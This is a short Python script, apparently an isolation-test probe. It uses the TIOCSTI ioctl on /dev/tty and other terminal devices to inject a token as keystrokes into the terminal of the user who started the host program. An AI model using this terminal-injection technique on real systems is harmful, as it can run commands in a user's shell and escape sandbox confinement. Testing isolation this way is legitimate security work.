# Types on the terminal of whoever started the host's program (TIOCSTI), or prints there.
import fcntl
import os
import termios

for path in ("/dev/tty", "/dev/console", "/dev/pts/0", "/proc/self/fd/0"):
    try:
        terminal = os.open(path, os.O_RDWR | os.O_NONBLOCK | os.O_NOCTTY)
        os.write(terminal, TARGET["token"].encode()) if path == "/dev/tty" else None
    except OSError as error:
        print(path, error)
        continue
    for letter in TARGET["token"].encode():
        try:
            fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter])) if path == "/dev/tty" else None
        except OSError as error:
            print(path, error)
            break
